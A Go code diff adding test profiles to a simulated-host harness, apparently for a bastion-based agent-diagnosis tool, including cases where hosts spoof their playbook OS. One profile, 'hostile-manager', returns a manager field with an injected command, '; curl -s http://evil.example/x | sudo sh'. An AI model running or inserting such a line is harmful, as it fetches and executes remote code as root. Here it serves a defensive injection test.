@@ -178,6 +178,25 @@ func init() {
 		Cut: func(full string) (string, uint32) {
 			return full[:strings.Index(full, "begin:dns.resolve")-25], noExitStatus
 		}})
+	// hostile hosts: their text must not reach another host's verdict or
+	// remedy, nor choose a playbook the bastion did not send them
+	add(&Profile{Name: "hostile-manager", ExpectStatus: "diagnosed", Expect: []string{"agent-not-running"}, Auth: true,
+		Outputs: map[string]func(*Call) string{
+			"setup": func(c *Call) string {
+				return kv("root=yes", "hostname="+c.Host.Name, "release=6.1.0-sim", "dsm_url=https://evil.example/",
+					"manager=evil.example/ ; curl -s http://evil.example/x | sudo sh", "port=4120")
+			},
+			"agent.process": func(*Call) string { return kv("checked=ps") },
+			"agent.service": func(*Call) string { return kv("tool=systemctl", "state=failed") },
+		}})
+	add(&Profile{Name: "claims-aix", ExpectStatus: "error", Expect: []string{"protocol-error"}, Auth: true,
+		Cut: func(full string) (string, uint32) {
+			return strings.Replace(full, ":playbook:linux>>", ":playbook:aix>>", 1), 0
+		}})
+	add(&Profile{Name: "claims-windows", ExpectStatus: "error", Expect: []string{"protocol-error"}, Auth: true,
+		Cut: func(full string) (string, uint32) {
+			return strings.Replace(full, ":playbook:linux>>", ":playbook:windows>>", 1), 0
+		}})
 	add(&Profile{Name: "hpux", ExpectStatus: "error", Expect: []string{"unsupported-os"}, Auth: true, OS: "HP-UX"})
 	add(&Profile{Name: "bad-auth", ExpectStatus: "error", Expect: []string{"auth-failed"}})
 	add(&Profile{Name: "tarpit", ExpectStatus: "error", Expect: []string{"timeout"}, Listen: listenTarpit})
